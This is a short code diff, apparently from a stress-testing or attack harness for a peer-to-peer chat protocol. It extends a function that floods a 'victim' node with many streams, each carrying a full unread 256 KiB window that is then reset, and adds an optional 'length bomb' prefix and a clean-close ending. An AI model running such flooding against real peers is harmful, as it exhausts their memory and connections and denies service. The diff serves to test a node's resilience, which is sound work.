@@ -402,15 +402,17 @@ async def send_and_reset(
     connections_per_peer: int,
     protocol: bytes = b"/p2pchat/no-such-protocol/1.0.0",
     ending: str = "reset",
+    prefix: bytes = b"",
 ) -> dict[str, Any]:
     """Streams that each carry a full initial window (256 KiB: a multistream header, a protocol
     the victim does not speak, then zeros) the victim never reads, and are then reset: every
     other one by the attacker, the rest left for the victim to reset (the zeros are not
-    multistream-select). ``peers`` PeerIds, each on ``connections_per_peer`` connections at
+    multistream-select). Or on ``protocol``, after ``prefix`` (a length bomb), and closed
+    (``ending="fin"``). ``peers`` PeerIds, each on ``connections_per_peer`` connections at
     once, each at 48 streams a second (under the victim's open rate: only the unread bytes
     matter here), a new connection each time the victim closes one, for ``seconds``."""
     window = 256 * 1024
-    head = delimited(MULTISTREAM) + delimited(protocol + b"\n")
+    head = delimited(MULTISTREAM) + delimited(protocol + b"\n") + prefix
     body = head + bytes(window - len(head))
     opened = connections = closed_by_victim = 0
 
